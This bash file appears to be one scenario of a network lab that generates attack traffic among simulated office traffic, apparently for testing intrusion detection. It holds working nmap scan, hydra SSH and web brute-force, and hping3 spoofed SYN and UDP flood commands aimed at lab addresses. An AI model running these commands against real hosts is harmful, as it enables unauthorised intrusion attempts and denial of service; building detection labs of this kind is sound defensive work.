# shellcheck shell=bash
# shellcheck disable=SC2034,SC2154 # variables are shared with the other parts
#
# What lab/run makes by itself.

about="Many attacks, one after the other, among the traffic of an office."

sizes() {
  if ((brief)); then
    quiet_seconds=5 pause_seconds=0.4 burst_gap=1 window_gap=1 tail_seconds=2
    scan_ports=1-59,8080 scan6_ports=1-29,80 scan_rate=60
    udp_ports=53,67,123,161,500
    ssh_tries=8 web_tries=16 flood_packets=150 udp_packets=100
    sweep_range=10.77.1.0/28
  else
    quiet_seconds=75 pause_seconds=5 burst_gap=5 window_gap=75 tail_seconds=20
    scan_ports=1-199,8080 scan6_ports=1-99,443 scan_rate=25
    udp_ports=7,9,13,17,19,37,49,53,67,68,69,80,88,111,123,135,137,138,139,161,162,177,389,427,443,445,500,514,520,623
    ssh_tries=40 web_tries=120 flood_packets=1200 udp_packets=700
    sweep_range=10.77.1.0/25
  fi
}

hosts() {
  add_host shared isp shared 203.0.113.50/24
  add_host scanner isp attacker 203.0.113.66/24
  add_host sweeper isp attacker 203.0.113.70/24
  add_host udpscan isp attacker 203.0.113.77/24
  add_host webbrute isp attacker 198.51.100.200/24
  add_host spoofer isp attacker 203.0.113.99/24
  add_host udpflood isp attacker 192.0.2.222/24
  add_host scanner6 isp attacker 2001:db8:ffff:bad::66/48
}

more_honest_traffic() { start_clients shared visitor 203.0.113.50; }

prepare() {
  make_wrong_passwords "$ssh_tries" | split -l 4 - "$tmp/shared/passwords-"
  make_wrong_passwords "$web_tries" >"$tmp/webbrute/passwords"
}

attacks() {
  attack syn-scan scanner 60 203.0.113.66 10.77.1.10,10.77.1.22 tcp "$scan_ports" \
    nmap -n -Pn -sS --max-retries 1 --max-rate "$scan_rate" -p "$scan_ports" 10.77.1.10 10.77.1.22
  attack ping-sweep sweeper 30 203.0.113.70 "$sweep_range" icmp "" \
    nmap -n -sn -PE --max-retries 1 --max-rate 30 "$sweep_range"
  attack udp-scan udpscan 40 203.0.113.77 10.77.1.53 udp "$udp_ports" \
    nmap -n -Pn -sU --max-retries 1 --max-rate 5 -p "$udp_ports" 10.77.1.53
  # Four passwords at a time: hydra waits half a minute where sshd hangs up
  # after too many failures on one connection.
  # shellcheck disable=SC2016  # the inner shell expands it
  attack ssh-brute-force shared 60 203.0.113.50 10.77.1.22 tcp 22 \
    bash -c 'for list in passwords-*; do hydra -I -t 2 -l worker -P $list ssh://10.77.1.22; sleep 1; done'
  attack web-brute-force webbrute 60 198.51.100.200 10.77.1.20 tcp 8080 \
    hydra -I -t 4 -l admin -P passwords -s 8080 10.77.1.20 http-get /admin/
  # A silence longer than the minute after which an alert window closes.
  say "honest traffic only, for $window_gap s"
  rest "$window_gap"
  attack syn-flood spoofer 30 random 10.77.1.10 tcp 80 \
    hping3 -q -n -I eth0 -S -p 80 --rand-source -c "$flood_packets" -i u10000 10.77.1.10
  attack udp-flood udpflood 30 192.0.2.222 10.77.1.53 udp 53 \
    hping3 -q -n -I eth0 --udp -p 53 -d 120 -c "$udp_packets" -i u10000 10.77.1.53
  attack syn-scan-ipv6 scanner6 40 2001:db8:ffff:bad::66 2001:db8:77:1::10 tcp "$scan6_ports" \
    nmap -6 -n -Pn -sS --max-retries 1 --max-rate "$scan_rate" -p "$scan6_ports" 2001:db8:77:1::10
  rest "$burst_gap"
  attack syn-scan scanner 60 203.0.113.66 10.77.1.20,10.77.1.53 tcp "$scan_ports" \
    nmap -n -Pn -sS --max-retries 1 --max-rate "$scan_rate" -p "$scan_ports" 10.77.1.20 10.77.1.53
}
